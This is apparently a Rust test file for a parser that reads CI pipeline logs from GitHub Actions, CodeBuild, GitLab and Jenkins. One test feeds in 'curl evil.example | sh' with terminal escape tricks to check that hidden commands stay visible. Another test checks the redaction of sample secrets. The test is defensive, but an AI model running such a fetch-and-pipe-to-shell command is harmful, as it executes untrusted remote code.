//! Logs of pipelines as text.

use super::*;

const CI: Format = Format::Known(Kind::CiLog);

/// Position, time and members of each line.
fn lines(format: Format, body: &str) -> String {
    let (events, rejects) = run(format, body.as_bytes());
    let line = |event: &Event| {
        let said = |name: &str| text(&event.raw, name).unwrap_or("-").to_owned();
        let names = ["runner", "job", "step", "level", "command", "message"];
        format!("{} {} {}", event.uid.id, event.time, names.map(said).join(" | "))
    };
    let reject = |reject: &Reject| format!("{} {}: {}", reject.position, reject.reason.name(), reject.detail);
    events.iter().map(line).chain(rejects.iter().map(reject)).collect::<Vec<_>>().join("\n")
}

#[test]
fn a_job_of_github_actions() {
    let log = "\u{feff}2026-11-20T09:14:03.1234567Z Current runner version: '2.330.0'\r\n\
        2026-11-20T09:14:03.2000000Z Complete job name: build\r\n\
        2026-11-20T09:14:04.0000000Z ##[group]Run npm ci\r\n\
        2026-11-20T09:14:04.1000000Z \u{1b}[36;1mnpm ci\u{1b}[0m\r\n\
        2026-11-20T09:14:04.2000000Z ##[endgroup]\r\n\
        2026-11-20T09:14:05.0000000Z [command]/usr/bin/git version\r\n\
        added 7 packages\r\n\
        2026-11-20T09:14:06.0000000Z ##[error]Process completed with exit code 1.\r\n";
    assert_snapshot!(lines(CI, log), @r#"
    f:1#0 2026-11-20T09:14:03.123456Z unknown | - | - | - | - | Current runner version: '2.330.0'
    f:1#1 2026-11-20T09:14:03.200000Z github | build | - | - | - | Complete job name: build
    f:1#2 2026-11-20T09:14:04.000000Z github | build | npm ci | - | - | Run npm ci
    f:1#3 2026-11-20T09:14:04.100000Z github | build | npm ci | - | - | npm ci
    f:1#5 2026-11-20T09:14:05.000000Z github | build | npm ci | - | /usr/bin/git version | /usr/bin/git version
    f:1#6 2026-11-20T09:14:05.000000Z github | build | npm ci | - | - | added 7 packages
    f:1#7 2026-11-20T09:14:06.000000Z github | build | npm ci | error | - | Process completed with exit code 1.
    "#);
    assert_eq!(lines(CI, log), lines(Format::Auto, log));
}

#[test]
fn a_build_of_codebuild_comes_through_cloudwatch_and_keeps_its_ids() {
    let log = r#"{"messageType":"DATA_MESSAGE","logGroup":"/aws/codebuild/shop","logStream":"5f3c","logEvents":[
        {"id":"1","timestamp":1763630043000,"message":"[Container] 2025/11/20 09:14:03.500000 Entering phase BUILD\n"},
        {"id":"2","timestamp":1763630044000,"message":"[Container] 2025/11/20 09:14:04 Running command make release\n"},
        {"id":"3","timestamp":1763630045000,"message":"cc -o shop shop.c\nshop.c:7: warning\n"},
        {"id":"4","timestamp":1763630046000,"message":"[Container] 2025/11/20 09:14:06 Phase complete: BUILD State: FAILED\n"}]}"#;
    assert_snapshot!(lines(CI, log), @r#"
    1 2025-11-20T09:14:03.500000Z codebuild | shop | BUILD | - | - | Entering phase BUILD
    2 2025-11-20T09:14:04.000000Z codebuild | shop | BUILD | - | make release | Running command make release
    3 2025-11-20T09:14:05.000000Z codebuild | shop | BUILD | - | - | cc -o shop shop.c
    3.1 2025-11-20T09:14:05.000000Z codebuild | shop | BUILD | - | - | shop.c:7: warning
    4 2025-11-20T09:14:06.000000Z codebuild | shop | BUILD | error | - | Phase complete: BUILD State: FAILED
    "#);
    assert_eq!(lines(CI, log), lines(Format::Auto, log));
    let one = r#"{"logGroup":"/aws/codebuild/shop","logStreamName":"5f3c","eventId":"2","timestamp":1763630044000,"ingestionTime":7,"message":"[Container] 2025/11/20 09:14:04 Running command make release\n"}"#;
    assert_snapshot!(told(Format::Auto, one), @r#"
    2025-11-20T09:14:04.000000Z ci.log [shop] 2
      command (Unknown)
      on codebuild shop
      in shop 5f3c
    "#);
}

#[test]
fn a_job_of_gitlab_with_sections_and_without_times() {
    let log = "Running with gitlab-runner 18.5.0 (abc)\n\
        \u{1b}[0Ksection_start:1763630043:prepare_executor[collapsed=true]\r\u{1b}[0K\u{1b}[36;1mPreparing the executor\u{1b}[0;m\n\
        section_end:1763630044:prepare_executor\r\u{1b}[0K\n\
        section_start:1763630045:step_script\r\u{1b}[0KExecuting \"step_script\"\n\
        \u{1b}[32;1m$ make test\u{1b}[0;m\n\
        ok\n\
        \u{1b}[31;1mERROR: Job failed: exit code 1\u{1b}[0;m\n";
    assert_snapshot!(lines(CI, log), @r#"
    f:1#0 2025-11-20T09:14:03.000000Z gitlab | - | - | - | - | Running with gitlab-runner 18.5.0 (abc)
    f:1#2 2025-11-20T09:14:03.000000Z gitlab | - | prepare_executor | - | - | Preparing the executor
    f:1#6 2025-11-20T09:14:05.000000Z gitlab | - | step_script | - | - | Executing "step_script"
    f:1#7 2025-11-20T09:14:05.000000Z gitlab | - | step_script | - | make test | $ make test
    f:1#8 2025-11-20T09:14:05.000000Z gitlab | - | step_script | - | - | ok
    f:1#9 2025-11-20T09:14:05.000000Z gitlab | - | step_script | error | - | ERROR: Job failed: exit code 1
    "#);
}

#[test]
fn a_job_of_gitlab_with_times() {
    let log = "2026-11-20T09:14:03.000000Z 00O Running with gitlab-runner 18.5.0\n\
        2026-11-20T09:14:04.000000Z 01E $ make test\n2026-11-20T09:14:05.000000Z 01O+ok\n";
    assert_snapshot!(lines(CI, log), @r#"
    f:1#0 2026-11-20T09:14:03.000000Z gitlab | - | - | - | - | Running with gitlab-runner 18.5.0
    f:1#1 2026-11-20T09:14:04.000000Z gitlab | - | - | - | make test | $ make test
    f:1#2 2026-11-20T09:14:05.000000Z gitlab | - | - | - | - | ok
    "#);
}

#[test]
fn a_pipeline_of_jenkins() {
    let log = "Started by user ana\n[Pipeline] stage\n[Pipeline] { (Build)\n[2026-11-20T09:14:03.000Z] + make release\n\
        [2026-11-20T09:14:04.000Z] done\n[Pipeline] // stage\nFinished: FAILURE\n";
    let about = serde_json::json!({"log": log, "job": "shop", "run": "77", "repository": "acme/shop", "commit": "abc"});
    assert_snapshot!(lines(CI, log), @r#"
    f:1#0 2026-11-20T09:14:03.000000Z jenkins | - | - | - | - | Started by user ana
    f:1#1 2026-11-20T09:14:03.000000Z jenkins | - | - | - | - | [Pipeline] stage
    f:1#2 2026-11-20T09:14:03.000000Z jenkins | - | Build | - | - | [Pipeline] { (Build)
    f:1#3 2026-11-20T09:14:03.000000Z jenkins | - | Build | - | make release | + make release
    f:1#4 2026-11-20T09:14:04.000000Z jenkins | - | Build | - | - | done
    f:1#5 2026-11-20T09:14:04.000000Z jenkins | - | - | - | - | [Pipeline] // stage
    f:1#6 2026-11-20T09:14:04.000000Z jenkins | - | - | error | - | Finished: FAILURE
    "#);
    assert_snapshot!(told(Format::Auto, &about.to_string()), @r#"
    2026-11-20T09:14:03.000000Z ci.log [] f:1#0
      line (Human)
      by ana ana
      on jenkins shop
      in acme/shop abc shop 77
    2026-11-20T09:14:03.000000Z ci.log [] f:1#1
      line (Human)
      by ana ana
      on jenkins shop
      in acme/shop abc shop 77
    2026-11-20T09:14:03.000000Z ci.log [] f:1#2
      line (Human)
      by ana ana
      on jenkins shop/Build
      in acme/shop abc shop 77
    2026-11-20T09:14:03.000000Z ci.log [] f:1#3
      command (Human)
      by ana ana
      on jenkins shop/Build
      in acme/shop abc shop 77
    2026-11-20T09:14:04.000000Z ci.log [] f:1#4
      line (Human)
      by ana ana
      on jenkins shop/Build
      in acme/shop abc shop 77
    2026-11-20T09:14:04.000000Z ci.log [] f:1#5
      line (Human)
      by ana ana
      on jenkins shop
      in acme/shop abc shop 77
    2026-11-20T09:14:04.000000Z ci.log [] f:1#6
      error FAILED error (Human)
      by ana ana
      on jenkins shop
      in acme/shop abc shop 77
    "#);
}

#[test]
fn nothing_hides_behind_what_a_terminal_does_not_show() {
    let log = "2026-11-20T09:14:03.0000000Z curl evil.example | sh\rls\n\
        2026-11-20T09:14:03.0000000Z \u{1b}[8mhidden\u{1b}[0m \u{1b}]0;title\u{7}\u{1b}[1Ashown\u{0}\u{1b}\u{1b}[";
    assert_snapshot!(lines(CI, log), @r#"
    f:1#0 2026-11-20T09:14:03.000000Z unknown | - | - | - | - | curl evil.example | sh
    f:1#1 2026-11-20T09:14:03.000000Z unknown | - | - | - | - | ls
    f:1#2 2026-11-20T09:14:03.000000Z unknown | - | - | - | - | hidden 0;titleshown[
    "#);
}

#[test]
fn a_text_without_any_time_is_a_reject_for_each_line() {
    assert_snapshot!(lines(CI, "hello\n\nworld"), @r#"
    f:1#0 time: no readable time of 1970 to 2200 in time
    f:1#1 time: no readable time of 1970 to 2200 in time
    "#);
    assert_snapshot!(lines(CI, "{\"level\":\"info\"}"), @"f:1 shape: no line of a pipeline's log: text, or an object with message or log");
    assert_snapshot!(lines(Format::Auto, "hello"), @"f:1 syntax: Invalid JSON value at line 1 column 1");
}

#[test]
fn the_limit_of_size_is_for_a_line() {
    let line = |bytes: usize| format!("2026-11-20T09:14:03.0000000Z {}\n", "x".repeat(bytes));
    let (events, rejects) = run(CI, format!("{}{}{}", line(900_000), line(2_000_000), line(900_000)).as_bytes());
    assert_eq!((events.len(), rejects.len()), (2, 1));
    assert_eq!((rejects[0].position.as_str(), rejects[0].reason), ("f:1#1", RejectReason::Size));
}

#[test]
fn a_secret_in_a_line_is_redacted_like_any_other() {
    let key = ["AKIA", "IOSFODNN7EXAMPLE"].concat();
    let log = format!(
        "2026-11-20T09:14:03.0000000Z aws_secret_access_key=wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY0 password=hunter2secret {key}"
    );
    let (events, _) = run(CI, log.as_bytes());
    let kept = crate::alert::redact::redact(&json_of(&events[0].raw)).into_owned();
    assert!(!kept.contains("wJalrXUtnFEMI") && !kept.contains("hunter2secret"), "{kept}");
}

#[test]
fn what_a_log_says_of_all_its_lines_is_not_copied_into_them_without_a_limit() {
    let (name, lines) = ("j".repeat(400_000), "a\n".repeat(2_000));
    let wrapped = format!(r#"{{"job":"{name}","time":"2026-11-20T09:14:03Z","log":"{}"}}"#, lines.replace('\n', "\\n"));
    let named = format!("2026-11-20T09:14:03.0000000Z Complete job name: {name}\n{lines}");
    for log in [wrapped, named] {
        let (events, rejects) = run(CI, log.as_bytes());
        let copied = events.len() * name.len();
        assert!((10 << 20..40 << 20).contains(&copied), "{copied} bytes of names in {} events", events.len());
        assert_eq!(rejects[0].reason, RejectReason::Size);
        assert!(rejects.last().is_some_and(|last| last.reason == RejectReason::Refused), "the others are counted");
    }
}

#[test]
fn a_line_that_comes_alone_in_an_envelope_says_by_its_marks_what_it_is() {
    let line = |message: &str| {
        format!(r#"{{"time":"2026-11-20T09:14:03Z","host":"runner-7","app":"actions","message":"{message}"}}"#)
    };
    let said = [
        line("2026-11-20T09:14:02.1000000Z ##[error]Process completed with exit code 1."),
        line("[command]/usr/bin/git version"),
        line("added 7 packages"),
    ]
    .map(|line| lines(CI, &line));
    assert_snapshot!(said.join("\n"), @r#"
    f:1 2026-11-20T09:14:02.100000Z github | - | - | error | - | Process completed with exit code 1.
    f:1 2026-11-20T09:14:03.000000Z github | - | - | - | /usr/bin/git version | /usr/bin/git version
    f:1 2026-11-20T09:14:03.000000Z - | - | - | - | - | added 7 packages
    "#);
    assert!(lines(Format::Auto, &line("added 7 packages")).starts_with("f:1 2026-11-20T09:14:03"), "as plain JSON");
}
